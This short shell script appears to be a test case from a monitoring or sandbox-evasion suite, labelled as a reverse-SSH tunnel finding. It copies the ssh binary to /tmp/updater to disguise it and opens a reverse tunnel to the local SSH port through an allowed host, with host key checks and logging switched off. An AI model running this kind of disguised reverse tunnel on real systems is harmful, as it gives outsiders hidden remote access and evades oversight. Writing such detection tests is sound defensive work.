# The program by another name.
#: in watched
#: needs ssh
#: open ssh.allowed.example:$PORT_SSH
#: shared
#: hole a renamed ssh that forwards a port shows nothing but an SSH connection to an allowed host until somebody comes back through it
#: finding tunnel.reverse-ssh
cp /usr/bin/ssh /tmp/updater
timeout 10 /tmp/updater -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=20 -o LogLevel=ERROR -i ./id -N -R 127.0.0.1:0:localhost:22 -p $PORT_SSH $SSH_USER@ssh.allowed.example
